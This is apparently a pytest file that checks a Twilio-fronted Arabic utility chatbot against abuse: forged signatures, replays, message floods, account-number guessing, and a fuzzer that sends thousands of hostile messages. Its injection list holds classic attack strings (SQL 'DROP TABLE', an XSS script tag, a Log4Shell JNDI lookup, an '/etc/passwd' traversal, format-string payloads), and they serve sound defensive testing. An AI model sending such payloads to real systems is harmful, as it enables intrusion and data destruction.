"""Abuse: forged signatures, replays, floods from one number, account-number guessing, and
hostile messages of every shape through the whole engine.

The hostile-message test runs 3,000 messages through the real engine on an SQLite file (a commit
each; an in-memory SQLite cannot be used: the embedded billing data would share the engine's one
connection and its transaction); `python bench/bench_scaleout.py hostile --messages 100000` runs
the full 100,000 with the same generator.
"""

from __future__ import annotations

import random
import uuid
import xml.etree.ElementTree as ET
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import event, func, select
from starlette.testclient import TestClient
from twilio.request_validator import RequestValidator

from bot.channels.render import render_text, sms_segments
from bot.channels.server import create_app
from bot.config import Settings
from bot.dialogue.engine import Engine
from bot.dialogue.messages import Inbound, Location
from bot.outages.models import OutageReport
from bot.storage.db import create_schema, dispose_engine, engine_for
from bot.storage.models import Contact, Delivery

TOKEN = "abuse-test-token"
PUBLIC_URL = "https://sadeeq.example.sa"
WHATSAPP_LIMIT = 1600  # characters of one WhatsApp message through Twilio
TELEGRAM_LIMIT = 4096
SMS_SEGMENTS = 3
LINKED = "+966500000001"  # a demo subscriber with linked accounts (see bot/billing/demo.toml)


def settings_for(url: str, **overrides: object) -> Settings:
    base = replace(
        Settings.from_env(),
        database_url=url,
        public_url=PUBLIC_URL,
        twilio_auth_token=TOKEN,
        billing_url=None,
        lang="ar",
    )
    return replace(base, **overrides)


def form(
    sid: str, body: str = "مرحبا", sender: str = "+966501112233", **extra: str
) -> dict[str, str]:
    return {
        "MessageSid": sid,
        "SmsSid": sid,
        "AccountSid": "AC123",
        "From": f"whatsapp:{sender}",
        "To": "whatsapp:+966920000000",
        "Body": body,
        "NumMedia": "0",
        **extra,
    }


def sign(
    params: dict[str, str],
    path: str = "/twilio/whatsapp",
    token: str = TOKEN,
    url: str = PUBLIC_URL,
) -> str:
    return RequestValidator(token).compute_signature(url + path, params)


def post(
    client: TestClient,
    params: dict[str, str],
    signature: str | None,
    path: str = "/twilio/whatsapp",
):
    headers = {} if signature is None else {"X-Twilio-Signature": signature}
    return client.post(path, data=params, headers=headers)


def messages_in(twiml: str) -> list[str]:
    return [m.text or "" for m in ET.fromstring(twiml).iter("Message")]


def rows(url: str, model) -> int:
    with engine_for(url).connect() as conn:
        return conn.execute(select(func.count()).select_from(model)).scalar_one()


@pytest.fixture
def client(seeded_database_url: str):
    with TestClient(create_app(settings_for(seeded_database_url))) as test_client:
        yield test_client


FORGERIES = {
    "no signature": lambda p: (p, None),
    "another token": lambda p: (p, sign(p, token="someone-else")),
    "another url": lambda p: (p, sign(p, url="https://attacker.example")),
    "another route": lambda p: (p, sign(p, path="/twilio/sms")),
    "body changed after signing": lambda p: ({**p, "Body": "فاتورة 30012345678"}, sign(p)),
    "sender changed after signing": lambda p: ({**p, "From": f"whatsapp:{LINKED}"}, sign(p)),
    "garbage": lambda p: (p, "AAAA" * 7),
}


@pytest.mark.parametrize("forgery", FORGERIES.values(), ids=FORGERIES.keys())
def test_forged_requests_are_refused_before_any_work(client, seeded_database_url, forgery) -> None:
    params, signature = forgery(form("SMforged"))
    response = post(client, params, signature)
    assert response.status_code == 403
    assert rows(seeded_database_url, Contact) == 0 and rows(seeded_database_url, Delivery) == 0


def test_a_replayed_delivery_is_handled_once_and_answered_the_same(
    client, seeded_database_url
) -> None:
    # A location with the words: an outage report at once (a bare location is asked about first).
    params = form("SMreplay", body="الكهرباء طافية", Latitude="24.7136", Longitude="46.6753")
    signature = sign(params)
    answers = [post(client, params, signature) for _ in range(5)]
    assert {a.status_code for a in answers} == {200}
    assert len({a.text for a in answers}) == 1 and messages_in(answers[0].text)
    assert rows(seeded_database_url, OutageReport) == 1
    # The same capture replayed against the other route does not verify (the URL is signed).
    assert post(client, params, signature, path="/twilio/sms").status_code == 403


def test_a_replayed_signature_on_a_new_message_id_is_refused(client) -> None:
    params = form("SMfirst")
    assert post(client, params, sign(params)).status_code == 200
    assert (
        post(
            client, {**params, "MessageSid": "SMsecond", "SmsSid": "SMsecond"}, sign(params)
        ).status_code
        == 403
    )


def inbound(
    text: str, sender: str = "+966501112233", channel: str = "whatsapp", **extra
) -> Inbound:
    return Inbound(
        channel=channel,
        sender=sender,
        text=text,
        received_at=datetime.now(UTC),
        message_id=uuid.uuid4().hex,
        phone=sender if sender.startswith("+") else None,
        **extra,
    )


class StatementCounter:
    """Counts the SQL statements one engine sends: the measure of "work done"."""

    def __init__(self, url: str) -> None:
        self.count = 0
        event.listen(engine_for(url), "before_cursor_execute", self._seen)

    def _seen(self, *_args) -> None:
        self.count += 1


def test_a_thousand_messages_a_minute_from_one_number_do_no_work_past_the_limit(
    database_url, one_rate_window
) -> None:
    engine = Engine(settings_for(database_url, rate_limit_per_minute=20))
    statements = StatementCounter(database_url)
    answers = [engine.respond(inbound(f"مرحبا {n}")) for n in range(21)]
    work_done = statements.count
    answers += [engine.respond(inbound(f"مرحبا {n}")) for n in range(21, 1000)]
    assert all(a.replies for a in answers[:20])
    assert answers[20].intent == "rate_limited" and len(answers[20].replies) == 1
    assert "انتظر دقيقة" in answers[20].replies[0].text
    assert all(a.replies == [] for a in answers[21:])  # then silence
    assert statements.count == work_done  # and not one statement for the 980 refused
    assert engine.respond(inbound("مرحبا", sender="+966509998877")).replies  # others unaffected


def test_a_flood_through_the_webhook_gets_one_slow_down_then_empty_answers(
    seeded_database_url, one_rate_window
) -> None:
    app = create_app(settings_for(seeded_database_url, rate_limit_per_minute=5))
    with TestClient(app) as client:
        answers = [post(client, p, sign(p)) for p in (form(f"SMflood{n}") for n in range(12))]
    assert [a.status_code for a in answers] == [200] * 12
    counts = [len(messages_in(a.text)) for a in answers]
    assert all(counts[:5]) and counts[5] == 1 and counts[6:] == [0] * 6
    assert "انتظر دقيقة" in messages_in(answers[5].text)[0]


def test_guessing_account_numbers_is_blocked_after_the_threshold(seeded_database_url) -> None:
    engine = Engine(settings_for(seeded_database_url, account_misses_per_hour=5))
    rng = random.Random(7)
    guesses = [f"3009{rng.randrange(10**7):07d}" for _ in range(5)]
    for guess in guesses:
        text = " ".join(
            r.text for r in engine.handle(inbound(f"فاتورة الحساب {guess}", sender=LINKED))
        )
        assert "غير مرتبط" in text
    blocked = " ".join(
        r.text for r in engine.handle(inbound("فاتورة الحساب 30099999999", sender=LINKED))
    )
    assert "لمدة ساعة" in blocked and "••••" not in blocked  # refused before any lookup
    # A bare account number (its bill) is an account lookup too.
    alerts = " ".join(r.text for r in engine.handle(inbound("30098765432", sender=LINKED)))
    assert "لمدة ساعة" in alerts
    # The sender's own bills by their number, and other senders, are not affected.
    own = " ".join(r.text for r in engine.handle(inbound("فاتورتي", sender=LINKED)))
    assert "لمدة ساعة" not in own and "حساب" in own
    other = " ".join(
        r.text for r in engine.handle(inbound("فاتورة الحساب 30011111111", sender="+966500000002"))
    )
    assert "لمدة ساعة" not in other


def test_bare_account_number_guesses_count_towards_the_block(seeded_database_url) -> None:
    engine = Engine(settings_for(seeded_database_url, account_misses_per_hour=3))
    for n in range(3):
        engine.handle(inbound(f"3007000000{n}", sender=LINKED))
    blocked = " ".join(
        r.text for r in engine.handle(inbound("فاتورة الحساب 30012345678", sender=LINKED))
    )
    assert "لمدة ساعة" in blocked


# Hostile messages ---------------------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE contacts; --",
    '" OR 1=1 --',
    "{0.__class__.__mro__}",
    "{amount}",
    "{}",
    "{{",
    "%s%s%s%n",
    "%(account)s",
    "<Message>x</Message>",
    "]]><x/>",
    "<script>alert(1)</script>",
    "${jndi:ldap://x.example/a}",
    "\x00\x00",
    "\u202eمرحبا\u202c",
    "\ufeff1",
    "\u200f\u200e",
    "../../etc/passwd",
    "STOP",
    "START",
    "HELP",
    "إلغاء",
    "English",
    "عربي",
    "القائمة",
    "تفاصيل",
    "0",
    "1",
    "٢",
    "۳",
    "9",
    "-1",
    "99999999999999999999999",
    "1e309",
    "NaN",
    "\n\n\n",
    " ",
]
WORDS = [
    "فاتورة",
    "فاتورتي",
    "الكهرباء",
    "مقطوعة",
    "انقطاع",
    "تعويض",
    "بلاغ",
    "حساب",
    "حي",
    "العليا",
    "الرياض",
    "ساعتين",
    "من الساعة ٨ الصبح",
    "bill",
    "outage",
    "compensation",
    "power",
    "account",
    "status",
    "agent",
    "موظف",
    "شكرا",
    "هلا",
    "😡",
    "🔌",
    "⚡️",
    "🇸🇦",
]
CODE_POOLS = [
    (0x20, 0x7E),
    (0x600, 0x6FF),
    (0x660, 0x669),
    (0x6F0, 0x6F9),
    (0x0, 0x10FFFF),
    (0x1F300, 0x1FAFF),
    (0x200B, 0x206F),
    (0xFE70, 0xFEFF),
]
CHANNELS = ("whatsapp", "sms", "telegram")


def _random_text(rng: random.Random) -> str:
    shape = rng.random()
    if shape < 0.2:
        return rng.choice(INJECTIONS)
    if shape < 0.5:
        parts = [rng.choice(WORDS + INJECTIONS) for _ in range(rng.randint(1, 6))]
        if rng.random() < 0.4:
            digits = "".join(rng.choice("0123456789٠١٢٣٤٥٦٧٨٩") for _ in range(rng.randint(1, 16)))
            parts.insert(rng.randint(0, len(parts)), digits)
        return " ".join(parts)
    if shape < 0.97:
        chars = []
        for _ in range(rng.randint(0, 80)):
            lo, hi = rng.choice(CODE_POOLS)
            code = rng.randint(lo, hi)
            if not 0xD800 <= code <= 0xDFFF:  # lone surrogates never come out of a decoded body
                chars.append(chr(code))
        return "".join(chars)
    size = rng.choice([2_001, 20_000, 100_000])  # a huge paste
    return (rng.choice(WORDS) + " ") * (size // 6)


def hostile_messages(count: int, seed: int = 20261124, senders: int = 50) -> list[Inbound]:
    """`count` seeded hostile messages from `senders` numbers over the three channels."""
    rng = random.Random(seed)
    start = datetime(2026, 11, 24, 12, 0, tzinfo=UTC)
    out = []
    for n in range(count):
        channel = rng.choice(CHANNELS)
        who = rng.randrange(senders)
        sender = f"tg:{900000 + who}" if channel == "telegram" else f"+9665{who:08d}"
        location = None
        if rng.random() < 0.03:
            location = Location(
                rng.uniform(-90, 90),
                rng.uniform(-180, 180),
                rng.choice([None, _random_text(rng)[:200]]),
            )
        out.append(
            Inbound(
                channel=channel,
                sender=sender,
                text=_random_text(rng),
                received_at=start + timedelta(seconds=n * rng.choice([1, 60, 3600])),
                message_id=f"hostile-{n}",
                phone=None if channel == "telegram" else sender,
                location=location,
                has_media=rng.random() < 0.02,
                contact_phone=rng.choice([None, None, None, sender[3:], "+٩٦٦٥٠٠٠٠٠٠٠١", "x" * 40])
                if channel == "telegram"
                else None,
            )
        )
    return out


def check_reply_sizes(replies) -> None:
    for reply in replies:
        assert isinstance(reply.text, str)
        assert len(render_text(reply, "whatsapp")) <= WHATSAPP_LIMIT
        assert len(render_text(reply, "telegram")) <= TELEGRAM_LIMIT
        assert sms_segments(render_text(reply, "sms")) <= SMS_SEGMENTS


@pytest.mark.slow
def test_three_thousand_hostile_messages_never_crash_and_fit_their_channel(tmp_path) -> None:
    url = f"sqlite:///{tmp_path / 'hostile.sqlite'}"
    create_schema(url)
    try:
        from bot.billing.demo import seed_demo

        seed_demo(url, subscribers=50, months=1)
        engine = Engine(settings_for(url, rate_limit_per_minute=0))
        for message in hostile_messages(3_000):
            check_reply_sizes(engine.respond(message).replies)
    finally:
        dispose_engine(url)


@pytest.mark.slow
def test_two_workers_share_one_rate_limit_through_redis(
    redis_url, seeded_database_url, tmp_path
) -> None:
    """A flood spread over two `sadeeq serve` processes is limited once, not once per worker."""
    from tests.support.rate_window import wait_for_minute_with
    from tests.test_faults import Worker, post_signed, running

    env = {"SADEEQ_REDIS_URL": redis_url, "SADEEQ_RATE_LIMIT_PER_MINUTE": "10"}
    first, second = (Worker(seeded_database_url, tmp_path / f"w{n}.log", **env) for n in range(2))
    with running(first), running(second):
        wait_for_minute_with(seconds_left=30)  # the workers count by the real minute
        answers = [
            post_signed((first, second)[n % 2].url, form(f"SMshared{n}", body=f"مرحبا {n}"))
            for n in range(30)
        ]
    assert [a.status_code for a in answers] == [200] * 30
    counts = [len(messages_in(a.text)) for a in answers]
    assert sum(1 for c in counts if c) == 11  # ten answers and one "slow down", over both workers
    assert counts[10] == 1 and counts[11:] == [0] * 19
